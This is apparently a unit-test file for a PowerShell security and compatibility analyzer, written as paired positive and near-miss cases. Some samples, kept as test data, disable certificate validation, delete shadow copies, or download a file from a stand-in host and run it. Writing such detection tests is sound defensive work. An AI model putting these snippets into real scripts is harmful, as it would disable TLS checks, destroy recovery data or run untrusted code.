"""Focused cases for what the blind8s corpus (admin, tradecraft, PowerShell 7) found: one test per fixed
miss, each with a near miss that must stay quiet."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, lines_of


def test_an_http_client_handler_accepting_any_certificate_disables_validation() -> None:
    result = analyze("""
        $handler = New-Object System.Net.Http.HttpClientHandler
        $handler.ServerCertificateCustomValidationCallback = { $true }
        $h2 = [System.Net.Http.HttpClientHandler]::new()
        $h2.ServerCertificateCustomValidationCallback = { param($m, $c, $ch, $e) return $true }
        $h3 = [System.Net.Http.HttpClientHandler]::new()
        $h3.ServerCertificateCustomValidationCallback = [System.Net.Http.HttpClientHandler]::DangerousAcceptAnyServerCertificateValidator
    """)
    assert lines_of(result, "PSCertificateValidationDisabled") == [2, 4, 6]


def test_an_http_client_handler_that_pins_a_certificate_is_no_finding() -> None:
    result = analyze("""
        $handler = New-Object System.Net.Http.HttpClientHandler
        $handler.ServerCertificateCustomValidationCallback = {
            param($message, $certificate, $chain, $errors)
            return $certificate.Thumbprint -eq $PinnedThumbprint
        }
        $handler.ServerCertificateCustomValidationCallback = $null
    """)
    assert lines_of(result, "PSCertificateValidationDisabled") == []


def test_shadow_copies_queried_into_a_variable_and_deleted_later_inhibit_recovery() -> None:
    result = analyze("""
        $shadows = Get-WmiObject -Class Win32_ShadowCopy
        foreach ($s in $shadows) {
            $s.Delete()
        }
        $copies = Get-CimInstance Win32_ShadowCopy
        $copies | ForEach-Object {
            $_.Delete()
        }
        $all = Get-WmiObject Win32_ShadowCopy
        $all.Delete()
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == [3, 7, 10]


def test_shadow_copies_listed_and_other_objects_deleted_is_no_finding() -> None:
    result = analyze("""
        $shadows = Get-CimInstance -ClassName Win32_ShadowCopy
        foreach ($s in $shadows) {
            Write-Output "$($s.ID) $($s.InstallDate)"
        }
        $files = Get-WmiObject -Class CIM_DataFile -Filter "Drive='C:' AND Extension='tmp'"
        foreach ($f in $files) {
            $f.Delete()
        }
        foreach ($s in $files) { $s.Delete() }
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == []


def test_a_file_downloaded_by_native_curl_or_wget_and_then_run_is_download_and_execute() -> None:
    result = analyze("""
        $out = "$env:APPDATA\\update.ps1"
        curl.exe -s -k -o $out https://paste.example.io/raw/9f2c
        powershell.exe -NoProfile -File $out
        wget.exe -q -O C:\\Users\\Public\\svc.exe http://203.0.113.7/svc.exe
        Start-Process C:\\Users\\Public\\svc.exe
    """)
    assert lines_of(result, "PSDownloadAndExecute") == [2, 4]


def test_a_curl_download_that_is_only_read_or_is_verified_first_is_no_finding() -> None:
    result = analyze("""
        curl.exe -sSL -o release.json https://api.example.com/releases/latest
        $release = Get-Content release.json -Raw | ConvertFrom-Json
        curl.exe -L -o tool.zip https://downloads.example.com/tool.zip
        Expand-Archive tool.zip -DestinationPath .\\tool
        curl.exe -L -o setup.exe https://downloads.example.com/setup.exe
        if ((Get-FileHash setup.exe).Hash -eq $ExpectedHash) { Start-Process .\\setup.exe -Wait }
        curl.exe -O https://downloads.example.com/readme.txt
    """)
    assert lines_of(result, "PSDownloadAndExecute") == []


def test_a_call_of_a_function_the_script_defines_with_a_powershell_7_name_is_compatible() -> None:
    result = analyze("""
        function Get-Uptime {
            param([string]$ComputerName = $env:COMPUTERNAME)
            (Get-Date) - (Get-CimInstance Win32_OperatingSystem -ComputerName $ComputerName).LastBootUpTime
        }
        $u = Get-Uptime
        Get-Uptime -ComputerName srv01
        Get-Error -Newest 1
    """)
    assert lines_of(result, "PSUseCompatibleCommands") == [7]  # Get-Error is PowerShell 7's own


def test_a_powershell_7_cmdlet_whose_name_a_script_does_not_define_is_still_noted() -> None:
    result = analyze("""
        function Get-UptimeReport { Get-Uptime }
        $u = Get-Uptime
    """)
    assert lines_of(result, "PSUseCompatibleCommands") == [1, 2]


def test_types_that_dotnet_6_added_are_not_in_windows_powershell() -> None:
    result = analyze("""
        $queue = [System.Collections.Generic.PriorityQueue[string, int]]::new()
        $day = [DateOnly]::FromDateTime((Get-Date))
        $at = [System.TimeOnly]::new(6, 30)
        $q = New-Object 'System.Collections.Generic.PriorityQueue[string,int]'
    """)
    assert lines_of(result, "PSUseCompatibleTypes") == [1, 2, 3, 4]


def test_generic_collections_every_edition_has_are_no_compatibility_note() -> None:
    result = analyze("""
        $queue = [System.Collections.Generic.Queue[string]]::new()
        $sorted = [System.Collections.Generic.SortedDictionary[int, string]]::new()
        $set = New-Object 'System.Collections.Generic.HashSet[string]'
        $when = [datetime]::Today
    """)
    assert lines_of(result, "PSUseCompatibleTypes") == []
